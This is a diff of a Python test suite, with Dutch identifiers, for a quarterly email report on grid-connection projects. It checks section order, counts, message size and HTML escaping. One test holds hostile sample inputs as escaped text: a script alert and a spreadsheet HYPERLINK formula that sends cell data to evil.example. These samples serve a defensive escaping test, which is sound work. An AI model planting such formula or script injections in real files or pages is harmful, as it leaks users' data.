@@ -97,9 +97,11 @@ def test_hostile_fiche_text_is_escaped_and_inert(bericht_en_master):
     d = onderdelen(msg)
     html_tekst = d["html"]
     assert "<script>" not in html_tekst
-    assert "&lt;script&gt;alert(&#x27;pmiek&#x27;)&lt;/script&gt; Vergunning loopt" in html_tekst
+    assert "&lt;script&gt;alert(&#x27;pmiek&#x27;)&lt;/script&gt;</span> Vergunning loopt" in html_tekst
     # The formula is just text in a table cell: escaped quotes, no link made of it.
-    assert "=HYPERLINK(&quot;https://evil.example/steal?d=&quot;&amp;A1,&quot;Klik hier voor details&quot;)" in html_tekst
+    # (The long unbroken token sits in a span that may break anywhere on a phone.)
+    assert "=HYPERLINK(&quot;https://evil.example/steal?d=&quot;&amp;A1,&quot;Klik</span> hier voor details&quot;)" \
+        in html_tekst
     p = Tags()
     p.feed(html_tekst)
     assert not [a for t, a in p.tags if t == "a"]
@@ -117,7 +119,9 @@ def test_plain_text_tells_the_same_story(bericht_en_master):
     msg, _ = bericht_en_master
     tekst = onderdelen(msg)["tekst"]
     r = bouw_rapport(sample_overzicht())
-    assert tekst.startswith("pMIEK kwartaaloverzicht Q3 2026\nPeildatum: 30 september 2026\n\n" + r.samenvatting)
+    assert tekst.startswith("pMIEK kwartaaloverzicht Q3 2026\nPeildatum: 30 september 2026\n\n"
+                            "Aan de leden van de Energy Board en het WIP,\n")
+    assert f"\n\n{r.samenvatting}\n\nGEVRAAGD VAN DE ENERGY BOARD\n" in tekst
     assert "- Concrete projecten (6): 1 rood, 2 oranje, 1 onbekend, 1 groen, 1 gerealiseerd" in tekst
     assert "- Verkenningen (4): 1 rood, 1 oranje, 1 onbekend, 1 groen" in tekst
     assert "- Prognose later: Deelnet Emmen: nieuwbouw station Emmen Noord 110/20 kV: +822 dagen (nu 30 juni 2033)" in tekst
@@ -134,9 +138,12 @@ def test_html_tells_the_same_story(bericht_en_master):
     assert "pMIEK kwartaaloverzicht Q3 2026" in h and "30 september 2026" in h
     for rij in r.plusprojecten:
         assert rij.project.projectnaam.replace("&", "&amp;") in h
-    for kop in ("Stoplichten", "Wijzigingen sinds Q2 2026", "Plusprojecten", "Tijdlijn", "Verkenningen",
-                "Datakwaliteit", "Capaciteit"):
-        assert f">{kop}</h2>" in h
+    koppen = ["Gevraagd van de Energy Board", "Plusprojecten", "Wijzigingen sinds Q2 2026", "Tijdlijn",
+              "Stoplichten", "Verkenningen", "Datakwaliteit", "Capaciteit"]
+    # Decisions first, then the plusprojecten, then what changed, then the rest.
+    plekken = [h.index(f">{kop}</h2>") for kop in koppen]
+    assert plekken == sorted(plekken)
+    assert "Aan de leden van de Energy Board en het WIP," in h
     assert "background-color:#F8696B" in h  # the red of the stoplicht, inline
 
 
@@ -147,3 +154,51 @@ def test_subject_template():
     with pytest.raises(ConfigError) as e:
         onderwerp("Overzicht {jaar}", r)
     assert e.value.key == "report.subject" and "{kwartaal}" in e.value.melding
+
+
+def test_plain_text_leads_with_what_the_board_is_asked(bericht_en_master):
+    msg, _ = bericht_en_master
+    tekst = onderdelen(msg)["tekst"]
+    koppen = ["GEVRAAGD VAN DE ENERGY BOARD", "PLUSPROJECTEN", "WIJZIGINGEN SINDS Q2 2026", "STOPLICHTEN",
+              "VERKENNINGEN", "DATAKWALITEIT", "CAPACITEIT"]
+    plekken = [tekst.index(f"\n{kop}\n") for kop in koppen]
+    assert plekken == sorted(plekken)
+    gevraagd = tekst[plekken[0]:plekken[1]]
+    # Bargermeer is escalated to the Energy Board; Emmen Noord only to the WKI.
+    assert "* Deelnet Emmen: nieuwbouw station omgeving Emmen Bargermeer 110/20 kV [Vertraagd], " \
+        "geëscaleerd naar Energy Board" in gevraagd
+    assert "Knelpunt: Locatie nog niet gekozen; Enexis nog in verkenning." in gevraagd
+    assert "Oplossing: Versnellingsatelier met Enexis, TenneT en gemeente." in gevraagd
+    assert "Gevraagd: Een besluit over de oplossing van het knelpunt, samen met Provincie Drenthe." in gevraagd
+    assert "Emmen Noord" not in gevraagd
+    # The toelichting is in the plusproject's card.
+    assert "Toelichting: Vergunningprocedure loopt uit; grondverwerving nog niet rond." in tekst
+    # New projects in one line, not one line each.
+    assert "- Nieuw: 1 nieuw project (1 onbekend).\n" in tekst
+    assert "Nieuw: MS-T" not in tekst
+
+
+def test_size_is_bounded_at_a_thousand_projects(tmp_path):
+    from sample_overzicht import groot_overzicht
+
+    from sync.kwartaal.inhoud import MAX_DETAILS
+
+    o = groot_overzicht(1000)
+    r = bouw_rapport(o)
+    assert r.aantal_concreet + r.aantal_verkenning == 1000
+    # Counts cover everything; details only the most urgent MAX_DETAILS per section.
+    assert r.aantal_plus == 400 and len(r.plusprojecten) == MAX_DETAILS
+    assert r.aantal_gevraagd == 100 and len(r.gevraagd) == MAX_DETAILS
+    assert len(r.wijziging_regels) == MAX_DETAILS and r.aantal_wijzigingen == 1200
+    assert r.nieuw_regel == "100 nieuwe projecten (100 onbekend)."
+    # The timeline shows what the e-mail details, worst first.
+    assert len(r.projecten) <= 3 * MAX_DETAILS
+    ernst = [p.stoplicht.ernst for p in r.projecten]
+    assert ernst == sorted(ernst, reverse=True)
+    msg = bouw_bericht(r, tijdlijn_png(r.projecten, r.peildatum), b"", afzender=AFZENDER, ontvangers=ONTVANGERS,
+                       datum=dt.datetime(2026, 10, 5, 8, 0, tzinfo=dt.timezone.utc))
+    grootte = len(msg.as_bytes())
+    assert grootte < 1_000_000, grootte
+    d = onderdelen(msg)
+    assert "En nog 388: het bijgevoegde masterwerkboek (pMIEK-monitoring-2026Q3.xlsx, blad Plusprojecten)" in d["tekst"]
+    assert "En nog 388: het bijgevoegde masterwerkboek" in d["html"]
